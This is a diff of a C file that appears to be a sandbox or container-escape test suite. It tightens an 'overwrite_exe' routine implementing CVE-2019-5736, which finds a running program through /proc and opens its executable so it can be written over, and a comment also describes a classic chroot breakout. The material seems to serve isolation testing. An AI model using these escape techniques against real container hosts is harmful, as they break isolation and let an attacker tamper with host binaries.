@@ -9,6 +9,7 @@
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
+#include <time.h>
 
 // chroot_breakout MARKER: the classic. A directory that was opened before a second chroot lies above the new root, and
 // ".." from there is never stopped. MARKER is a file that exists outside only.
@@ -144,19 +145,19 @@ ATTEMPT(own_limit) {
     return result;
 }
 
-// overwrite_exe NAME: waits for a process whose program's path contains NAME and writes over that program
-// (CVE-2019-5736). Opened by O_PATH while it runs, for writing once nobody runs it any more.
+// overwrite_exe PATH: waits for a process whose program is PATH and writes over that program (CVE-2019-5736). Opened by
+// O_PATH while it runs, for writing once nobody runs it any more.
 ATTEMPT(overwrite_exe) {
     char path[64], link[256];
     int held = -1;
-    for (int round = 0; held < 0 && round < 200000; round++) {
-        if (round == 0) // whoever makes the other side come knows now that it is time
-            printf("WAITING\n"), fflush(stdout);
+    printf("WAITING\n");
+    fflush(stdout);
+    for (time_t end = time(NULL) + 4; held < 0 && time(NULL) < end;) {
         DIR *processes = opendir("/proc");
         for (struct dirent *entry; held < 0 && (entry = readdir(processes));) {
             snprintf(path, sizeof path, "/proc/%.16s/exe", entry->d_name);
             ssize_t length = atoi(entry->d_name) > 0 ? readlink(path, link, sizeof link - 1) : -1;
-            if (length > 0 && (link[length] = '\0', strstr(link, args[0])))
+            if (length > 0 && (link[length] = '\0', strcmp(link, args[0]) == 0))
                 held = open(path, O_PATH);
         }
         closedir(processes);
